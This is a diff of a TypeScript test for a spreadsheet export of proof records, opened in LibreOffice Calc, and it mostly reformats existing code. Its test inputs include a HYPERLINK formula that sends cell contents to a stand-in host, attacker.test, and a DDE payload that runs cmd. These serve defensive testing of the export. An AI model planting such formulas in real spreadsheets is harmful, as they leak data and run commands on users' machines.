@@ -25,7 +25,7 @@ const texts = [
   "  leading and trailing spaces  ",
   "inner   spaces",
   "markup & <b>bold</b> > less",
-  "=HYPERLINK(\"http://attacker.test/?\"&A1,\"open\")",
+  '=HYPERLINK("http://attacker.test/?"&A1,"open")',
   "@SUM(1+1)*cmd|' /C calc'!A0",
   `non-BMP ${pile} and é`,
   // Cut at 32,767 characters with the pair across the cut: a naive cut leaves half a pair.
@@ -47,18 +47,54 @@ function proofs(): Proof[] {
   const base = { asset: "DTI4H95J0R2X", status: "VERIFIED" as const, dueAt: null };
   return texts.flatMap((text, index): Proof[] => [
     {
-      ...base, __typename: "AopdSignatureProof", id: `signature-${index}`, createdAt: at(index), updatedAt: at(index + 1),
-      address: text, customerId: text, comment: text, format: "P2WPKH", message: text, signature: text, xpub: text,
+      ...base,
+      __typename: "AopdSignatureProof",
+      id: `signature-${index}`,
+      createdAt: at(index),
+      updatedAt: at(index + 1),
+      address: text,
+      customerId: text,
+      comment: text,
+      format: "P2WPKH",
+      message: text,
+      signature: text,
+      xpub: text,
     },
     {
-      ...base, __typename: "AopdSatoshiProof", id: `satoshi-${index}`, createdAt: at(index), updatedAt: at(index), dueAt: new Date(Date.UTC(2025, 0, 2, 0, 0, 0, 999)),
-      address: text, customerId: text, comment: text, amount: "9".repeat(78), senderAddress: text, depositAddress: text, txId: text,
-      assessment: "FAILED", blockHeight: null, confirmations: null, failureReason: null, decision: null,
+      ...base,
+      __typename: "AopdSatoshiProof",
+      id: `satoshi-${index}`,
+      createdAt: at(index),
+      updatedAt: at(index),
+      dueAt: new Date(Date.UTC(2025, 0, 2, 0, 0, 0, 999)),
+      address: text,
+      customerId: text,
+      comment: text,
+      amount: "9".repeat(78),
+      senderAddress: text,
+      depositAddress: text,
+      txId: text,
+      assessment: "FAILED",
+      blockHeight: null,
+      confirmations: null,
+      failureReason: null,
+      decision: null,
     },
     {
-      ...base, __typename: "AopdMediaProof", id: `media-${index}`, createdAt: at(index), updatedAt: at(index), address: text, customerId: text,
-      comment: text, contentType: "image/png", byteSize: 1234, sha256: "ab".repeat(32), uploadedAt: new Date(Date.UTC(1999, 11, 31, 23, 59, 59, 1)),
-      assessment: null, decision: null,
+      ...base,
+      __typename: "AopdMediaProof",
+      id: `media-${index}`,
+      createdAt: at(index),
+      updatedAt: at(index),
+      address: text,
+      customerId: text,
+      comment: text,
+      contentType: "image/png",
+      byteSize: 1234,
+      sha256: "ab".repeat(32),
+      uploadedAt: new Date(Date.UTC(1999, 11, 31, 23, 59, 59, 1)),
+      assessment: null,
+      decision: null,
     },
   ]);
 }
@@ -94,7 +130,11 @@ describe("the export in LibreOffice Calc", () => {
           } else {
             expect(shownCell?.type, where).toBe("date");
             // What the date format shows, to the millisecond: the instant in UTC as the export wrote it.
-            expect(shownCell?.text, where).toBe(excelNumberToIso(cell.v as number).replace("T", " ").replace("Z", ""));
+            expect(shownCell?.text, where).toBe(
+              excelNumberToIso(cell.v as number)
+                .replace("T", " ")
+                .replace("Z", ""),
+            );
             dateCells += 1;
           }
         });
